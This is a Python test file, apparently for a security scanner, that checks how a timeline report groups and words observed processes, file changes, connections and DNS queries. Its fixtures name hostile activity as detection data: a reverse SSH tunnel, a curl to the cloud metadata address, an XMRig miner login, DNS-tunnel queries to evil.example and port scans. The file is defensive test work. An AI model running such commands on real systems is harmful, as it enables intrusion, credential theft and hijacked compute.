import gc
import time
from dataclasses import replace

from hypothesis import HealthCheck, given, settings

from scanner.model import Finding
from scanner.model.run import Attempt, ChangeKind, Endpoint, FileChange, How, Process, Query, Run
from scanner.reports.timeline import Sort, moments, telling
from tests.reports import runs, strategies

START = runs.START
EMPTY = Run(How.OBSERVE, "box", START, START + 60)


def said(run: Run) -> list[str]:
    return [one.sentence for one in moments(run)]


def test_moments_stand_by_time_with_who_did_them():
    told = [(one.time, one.sort, one.who, one.user) for one in moments(runs.ROME, verbose=True)]

    assert [one for one in told if one[1] is not Sort.SOCKET][:3] == [
        (START + 0.125, Sort.PROCESS, "4700 /bin/sh /run.sh", "root"),
        (START + 2.5, Sort.CHANGE, "", "root"),
        (START + 3.125, Sort.CHANGE, "", "root"),
    ]
    assert (START + 6.5, Sort.ATTEMPT, "4720 [kworker/0:1]", "root") in told
    assert (START + 7.25, Sort.PROCESS, "4730 curl -s http://169.254.169.254/", "agent") in told
    assert [one for one in told if one[0] is None] == told[-5:]
    assert len(told) == 44 + 5 + 4 + 1 + 4


def test_a_moment_reads_as_a_sentence():
    told = said(runs.ROME)

    assert "4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9 began" in told
    assert "4730 curl -s http://169.254.169.254/ ended with exit code 0" in told
    assert "asked 198.18.0.1:53 for pool.example A, 2 times (4720 [kworker/0:1])" in told
    assert (
        "tried pool.example:3333 (198.18.0.7) by tcp, stratum (method login, login 46yzCC…, agent XMRig/6.21.0), 3 times "
        "(4720 [kworker/0:1])" in told
    )
    assert (
        "/usr/lib/libprocess.so.0: modified, with the size and the time that it had before, program, 0755 root, 182 kB"
        in told
    )


def test_many_files_of_one_folder_are_one_moment():
    [one] = [one for one in moments(runs.ROME) if one.count > 3]

    assert (one.words, one.user, one.count) == ("40 files added under /work/out", "agent", 40)
    assert (one.time, one.last) == (START + 4, START + 4.039)
    assert runs.WORK[7].path in one.paths


def changed(path: bytes, at: float, **more: object) -> FileChange:
    return FileChange(path, ChangeKind.ADDED, "writable layer", None, runs.state(1, changed=at), **more)  # type: ignore[arg-type]


def test_five_thousand_files_of_many_folders_are_told_by_what_holds_them_all():
    many = tuple(changed(b"usr/lib/python3/p%d/m%d.py" % (n // 2, n), START + n / 10_000) for n in range(5_000))

    assert said(replace(EMPTY, changes=many)) == ["5,000 files added under /usr/lib/python3"]


def test_a_program_among_many_files_stays_on_its_own():
    many = [changed(b"opt/x/f%d" % n, START) for n in range(50)]
    program = changed(b"opt/x/run", START, executable=True)

    told = said(replace(EMPTY, changes=(*many, program)))
    assert len(told) == 2
    assert "50 files added under /opt/x" in told
    assert any(one.startswith("/opt/x/run: added, program") for one in told)


def test_what_is_alike_and_far_apart_in_time_is_not_folded_together():
    first = [changed(b"a/f%d" % n, START) for n in range(10)]
    later = [changed(b"a/g%d" % n, START + 30) for n in range(10)]

    assert said(replace(EMPTY, changes=(*first, *later))) == ["10 files added under /a"] * 2


def attempt(n: int, target: Endpoint, at: float = 0.0, **more: object) -> Attempt:
    return Attempt(START + (at or n / 1000), "tcp", target, **more)  # type: ignore[arg-type]


def test_a_flood_to_one_place_is_one_moment_and_a_scan_of_many_another():
    flood = [attempt(n, Endpoint("192.0.2.1", 80), pid=7, service="http") for n in range(10_000)]
    scan = [attempt(n, Endpoint(f"198.51.100.{n % 250}", 22), pid=8) for n in range(500)]

    told = said(replace(EMPTY, attempts=(*flood, *scan)))
    assert told == [
        "10,000 attempts: 192.0.2.1:80 by tcp (7)",
        "500 attempts: 198.51.100.0:22 by tcp, 198.51.100.1:22 by tcp, 198.51.100.2:22 by tcp and 247 more (8)",
    ]


def test_one_place_among_a_scan_of_others_stays_on_its_own():
    metadata = attempt(0, Endpoint("169.254.169.254", 80), 0.5, pid=8)
    hosts = [attempt(n, Endpoint(f"10.0.0.{n % 250}", 22), pid=8) for n in range(500)]

    assert said(replace(EMPTY, attempts=(*hosts, metadata)))[1:] == ["tried 169.254.169.254:80 by tcp (8)"]


def test_a_scan_of_the_ports_of_one_address_is_one_moment():
    ports = tuple(attempt(n, Endpoint("198.51.100.7", n), pid=8) for n in range(1, 2_000))

    [one] = moments(replace(EMPTY, attempts=ports))
    assert one.words.startswith("1,999 attempts: 198.51.100.7:1 by tcp, 198.51.100.7:2 by tcp")


def test_few_alike_are_told_one_by_one():
    few = tuple(attempt(n, Endpoint("192.0.2.1", 80)) for n in range(4))

    assert len(moments(replace(EMPTY, attempts=few))) == 4
    assert len(moments(replace(EMPTY, attempts=(*few, attempt(5, Endpoint("192.0.2.1", 80)))))) == 1


def test_names_under_one_domain_are_folded_as_a_tunnel_makes_them():
    asked = tuple(
        Query(START + n / 10, f"x{n}.t.evil.example", "TXT", Endpoint("192.0.2.53", 53), pid=7) for n in range(300)
    )

    [one] = moments(replace(EMPTY, queries=asked))
    assert one.words.startswith("300 questions to name servers: x0.t.evil.example TXT, x1.t.evil.example TXT")
    assert one.words.endswith("and 297 more")


def test_processes_that_many_things_start_have_no_single_actor():
    compiled = tuple(Process(100 + n, 7, ("cc1", f"{n}.c"), started=START + n / 100) for n in range(200))

    [one] = moments(replace(EMPTY, processes=compiled))
    assert (one.words, one.who, len(one.pids)) == ("200 processes began: cc1", "", 200)


def test_a_number_used_twice_is_the_process_of_that_time():
    first = Process(9, 1, ("curl",), started=START, ended=START + 1)
    second = Process(9, 1, ("wget",), started=START + 10)
    early, late = attempt(0, Endpoint("192.0.2.1", 1), 0.5, pid=9), attempt(0, Endpoint("192.0.2.2", 1), 11, pid=9)

    told = {one.words: one.who for one in moments(replace(EMPTY, processes=(first, second), attempts=(early, late)))}
    assert told["tried 192.0.2.1:1 by tcp"] == "9 curl"
    assert told["tried 192.0.2.2:1 by tcp"] == "9 wget"


def test_what_matters_is_what_was_tried_and_what_the_findings_point_to():
    told = telling(runs.ROME, runs.WATCHED)

    assert {one.sort for one in told} == {Sort.CHANGE, Sort.PROCESS, Sort.QUERY, Sort.ATTEMPT}
    assert [one.paths for one in told if one.sort is Sort.CHANGE] == [(runs.MINER.path,)]
    assert 4_700 not in {pid for one in told for pid in one.pids}
    assert telling(runs.QUIET.run or EMPTY, runs.QUIET) == ()


def test_a_finding_makes_its_quiet_file_matter():
    found: Finding = replace(runs.FINDINGS[2], locations=(replace(runs.FINDINGS[2].locations[0], path=runs.KEY.path),))  # type: ignore[type-var]

    told = telling(runs.ROME, runs.report(runs.ROME, found))
    assert runs.KEY.path in [path for one in told for path in one.paths]


@given(strategies.runs)
@settings(deadline=None, suppress_health_check=list(HealthCheck), max_examples=100)
def test_folding_loses_nothing_and_everything_is_safe_to_print(run):
    every, folded = moments(run, verbose=True), moments(run)

    assert sum(one.count for one in every) == sum(one.count for one in folded)
    assert all(one.sentence.isprintable() and one.user.isprintable() for one in (*every, *folded))
    for told in (every, folded):
        times = [one.time for one in told if one.time is not None]
        assert times == sorted(times)
        assert all(one.time is None for one in told[len(times) :])


def test_fifty_thousand_moments_take_time_in_proportion():
    def seconds(count: int) -> float:
        many = tuple(changed(b"d%d/f%d" % (n % 977, n), START + n / 50) for n in range(count))
        gc.collect()
        gc.disable()  # a collector walks all that other tests have left, again and again
        try:
            begin = time.process_time()
            assert sum(one.count for one in moments(replace(EMPTY, changes=many))) == count
            return time.process_time() - begin
        finally:
            gc.enable()

    seconds(100)
    large, small = (min(seconds(count) for _ in range(3)) for count in (50_000, 5_000))  # the least disturbed of three
    assert large < 25 * small + 0.2
